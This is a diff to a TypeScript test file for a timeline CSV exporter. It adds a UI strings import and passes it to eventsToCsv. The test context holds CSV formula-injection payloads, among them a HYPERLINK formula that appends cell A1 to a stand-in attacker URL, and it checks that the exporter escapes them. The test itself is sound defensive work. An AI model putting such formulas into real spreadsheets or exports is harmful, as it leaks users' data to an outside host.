@@ -7,6 +7,7 @@ import { resolve } from 'node:path';
 import { csvField, toCsv } from '../../src/lib/csv';
 import { loadTimelineData } from '../../src/build/data/load';
 import { eventsToCsv } from '../../src/lib/timeline/exports';
+import { en } from '../../src/lib/ui/strings';
 
 const PLANTED = [
   '=HYPERLINK("https://evil.example?"&A1,"Click")',
@@ -58,7 +59,7 @@ describe('eventsToCsv', () => {
       summary: '@SUM(A1:A9)',
       sources: [{ ...first.sources[0], publisher: '-Publisher' }],
     };
-    const rows = csvParse(eventsToCsv({ ...data, events: [planted, ...rest] }));
+    const rows = csvParse(eventsToCsv({ ...data, events: [planted, ...rest] }, en));
     expect(rows[0].title).toBe("'=1+1");
     expect(rows[0].summary).toBe("'@SUM(A1:A9)");
     expect(rows[0].sources).toMatch(/^'-Publisher \[/);
